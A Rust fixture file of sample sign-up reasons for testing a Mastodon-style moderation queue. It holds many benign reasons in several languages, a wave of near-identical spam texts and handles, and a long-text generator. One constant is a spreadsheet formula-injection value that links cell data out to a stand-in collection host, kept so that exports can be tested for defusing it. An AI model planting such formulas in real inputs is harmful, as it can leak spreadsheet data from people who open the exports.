//! Why people say they want to join. Written by hand: a queue is only a rehearsal when its texts read like real ones.

/// Language and text.
pub(crate) type Reason = (&'static str, &'static str);

/// Sign-up reasons of people one would gladly let in, and of some one would think about.
#[rustfmt::skip]
pub(crate) const REASONS: &[Reason] = &[
    ("en", "I draw birds and would like to share them with other naturalists."),
    ("en", "Woodworking, bread, and a bit of politics. I read the rules."),
    ("en", "Library staff, moving here with three colleagues. We post about cataloguing and rare maps."),
    ("en", "Coming from another server that is closing down at the end of the month (old.example). I have about 400 followers there and would like to bring my posts on lichen."),
    ("en", "My sister Tamsin is here and says you are kind."),
    ("en", "I run a small community radio station and we are looking for a home that isn't run by an advertiser."),
    ("en", "amateur astronomer, bad at spelling, good at telescopes"),
    ("en", "I teach maths at a secondary school. I want a quiet place that my pupils will not find."),
    ("en", "Retired nurse. Knitting, allotment, grandchildren. A friend at the Thursday group showed me how this works."),
    ("en", "hi! i make zines about trains. mostly local lines. can i post pictures of trains? thank you"),
    ("en", "I was on a big server for two years and got tired of the noise. I moderate a forum for sailors, so I know what you are doing here and thank you for it."),
    ("en", "To follow the city council's account and complain politely about the buses."),
    ("en", "PhD student in soil science, second year, need people to talk to who do not know what a thesis is."),
    ("en", "Interested in permaculture and open source. I maintain two small Rust crates and one large compost heap."),
    ("en", "I am blind and use a screen reader. Your instance was recommended because people here write image descriptions."),
    ("en", "Just looking around, no big plans. I like soup."),
    ("en", "We are a choir of 23 people in the north of the county and want to announce concerts. No advertising otherwise."),
    ("en", "I translate poems from Yoruba. I would like to post one a week."),
    ("en", "test"),
    ("en", "my old account was @marlowe here, i lost the password and the mail address is gone. sorry for the trouble"),
    ("en", "Cyclist, beekeeper, occasionally cross about potholes."),
    ("en", "I'm writing a book on village football and want to talk with people who actually stand at the touchline."),
    ("en", "Photography! Mostly fog. I only post my own pictures and I add alt text."),
    ("en", "Someone here answered my question on mushrooms and now I can't stop reading."),
    ("en", "I work night shifts in a hospital lab and it would be nice to have company at four in the morning."),
    ("en", "Open data person. I'd run one small bot that posts river levels, unlisted, marked as a bot. Happy to ask first."),
    ("en", "Game developer, two-person studio. I promise to talk about other things as well."),
    ("en", "I want to read the feeds of the mutual aid group. I will probably not post very much."),
    ("en", "New in town (moved from Kisumu in August), looking for local people, choirs, cheap bicycles."),
    ("en", "I have read the rules. Number 4 made me laugh. My dog's name is Biscuit."),
    ("en", "Journalist at a local weekly. I will say who I am and will not quote anybody without asking."),
    ("en", "why do you need to know"),
    ("en", "Sewing patterns for wheelchair users. I share them for free."),
    ("de", "Ich folge schon einigen von euch und möchte gern mitlesen."),
    ("de", "Kleiner Garten im Wendland, alte Apfelsorten, ab und zu Politik. Die Regeln habe ich gelesen und finde sie gut."),
    ("de", "Unser Repair-Café sucht eine neue Heimat, weil unser alter Server Ende des Jahres schließt."),
    ("de", "Moin! Ich baue Boote und will Fotos vom Bau einer Jolle zeigen. Mehr hab ich nicht vor."),
    ("de", "Ich unterrichte Informatik und Französisch. Suche Austausch über freie Software in der Schule."),
    ("de", "meine tochter hat gesagt hier sind nette leute"),
    ("de", "Ich komme von einer größeren Instanz, auf der die Moderation leider eingeschlafen ist. Themen: Barrierefreiheit, Nahverkehr, Katzen."),
    ("de", "Stadtbibliothek, dienstliches Konto. Wir stellen Neuerwerbungen und Lesungen vor, alle Bilder mit Beschreibung."),
    ("fr", "Bonjour, j'élève des abeilles en Bretagne et je cherche un endroit calme pour en parler."),
    ("fr", "Je tiens un petit blog sur les lavoirs et les fontaines. Une amie m'a conseillé votre instance."),
    ("fr", "Études de musicologie en cours, je publierai surtout des extraits de partitions du domaine public."),
    ("fr", "je voudrais suivre le compte de l'association, merci d'avance et bon courage pour la modération"),
    ("fr", "Des jumeaux, du code, peu de sommeil. J'ai lu la charte en entier."),
    ("es", "Vengo de parte de una compañera del taller de encuadernación. Publico fotos de libros cosidos a mano."),
    ("es", "Tengo una pequeña estación meteorológica y comparto datos de mi estación todas las mañanas."),
    ("es", "Quiero practicar inglés y hablar de cocina mixteca. No vendo nada."),
    ("es", "Somos una cooperativa de bicicletas de reparto. Prometemos no aburrir."),
    ("es", "me gusta el fútbol femenino y los gatos, ¿se puede?"),
    ("pt-BR", "Dou aulas de biologia e quero divulgar ciência sem algoritmo no meio."),
    ("pt-BR", "Cheguei aqui pelo grupo de observadores de aves. Prometo muitas fotos de sabiá."),
    ("pt-BR", "Estudo biblioteconomia e procuro gente que goste de catálogo tanto quanto eu."),
    ("nl", "Vrienden raadden jullie aan. Ik maak foto's van de stad."),
    ("nl", "Ik leer voor molenaar en zoek mensen die van techniek en wind houden."),
    ("nl", "Ik wil graag de buurtberichten volgen en soms iets over tuinieren plaatsen."),
    ("it", "Restauro mobili antichi e vorrei condividere il lavoro passo per passo."),
    ("it", "Mi ha invitato mia cugina. Parlo di teatro e di treni regionali."),
    ("pl", "Szukam spokojnego miejsca do rozmów o szydełkowaniu i retro komputerach."),
    ("pl", "Prowadzę małe archiwum pocztówek, będę pokazywać jedną dziennie."),
    ("sv", "Jag skriver om folkmusik och nyckelharpa. Vill gärna vara på en liten server."),
    ("fi", "Harrastan suunnistusta ja valokuvaan metsiä. Luin säännöt."),
    ("tr", "Şiir çevirileri yapıyorum, küçük ve sakin bir topluluk arıyorum."),
    ("ja", "写真と古い鉄道が好きです。静かなサーバーを探しています。"),
    ("ja", "友人に紹介されました。編み物の作品を少しずつ投稿したいです。"),
    ("zh-CN", "我是植物画爱好者，想和大家分享每周的写生。"),
    ("ko", "개발자입니다. 한국어와 영어로 오픈소스 이야기를 하고 싶어요."),
    ("ar", "أعمل في ترميم المخطوطات وأبحث عن مجتمع هادئ للحديث عن الخط العربي."),
    ("ar", "أحب تصوير الحدائق القديمة، وقد قرأت القواعد."),
    ("he", "מוזיקה היא חיי, ואשמח לשתף הקלטות של מקהלת בית הספר."),
    ("uk", "Викладаю історію, шукаю спокійне місце для розмов про краєзнавство."),
    ("el", "Ασχολούμαι με ερασιτεχνικό θέατρο και ψάχνω μια μικρή παρέα."),
    ("vi", "Mình thích vẽ màu nước và muốn học hỏi thêm từ mọi người."),
    ("cy", "Dwi'n dysgu Cymraeg i oedolion a hoffwn rannu gair bob dydd."),
    ("fa", "شعر ترجمه می‌کنم و دنبال جای آرامی هستم."),
];

/// The spam wave: near-identical texts, as they come within one afternoon from a handful of addresses.
pub(crate) const SPAM: &[&str] = &[
    "I want to join because of good communication and best deals, see you at deals-now.example",
    "I want to join because of great communication and deals, see you at deals-now.example",
    "i want to join because of good comunication and best deals see you at deals-now.example",
    "I would like to join because of good communication and the best deals. See you at deals-now.example !",
    "I want to join for good communication and best offers, see you at deals-now.example/promo",
    "I want join because of very good communication and best deals, look at deals-now.example",
];

/// What the people of the spam wave call themselves.
pub(crate) const SPAM_HANDLES: &[&str] = &[
    "spammer42",
    "casino_77",
    "bestpills",
    "deals4you",
    "promo_anna",
    "crypto_lisa",
    "luckyspin88",
    "easyloan24",
    "fastmoney_x",
    "sale_maria",
    "bonusking",
    "vip_dating1",
    "cheapwatch",
    "seo_master9",
    "winbig_tom",
    "goldprofit",
];

/// A reason as a spreadsheet would run it: exports have to defuse it.
pub(crate) const FORMULA: &str = "=HYPERLINK(\"https://collect.example/?\"&A1,\"my portfolio\") hello i am a designer";

/// Somebody who says everything. Mastodon itself cuts at 420 characters in its form, the API of older versions did not.
pub(crate) fn very_long() -> String {
    let mut text = String::from("I will try to be complete. ");
    for year in 1984..2026 {
        text.push_str(&format!(
            "In {year} I kept a diary about the weather, the trains and what we had for supper, and I have been looking for the right place to publish it ever since. "
        ));
    }
    text.push_str("That is all.");
    text
}
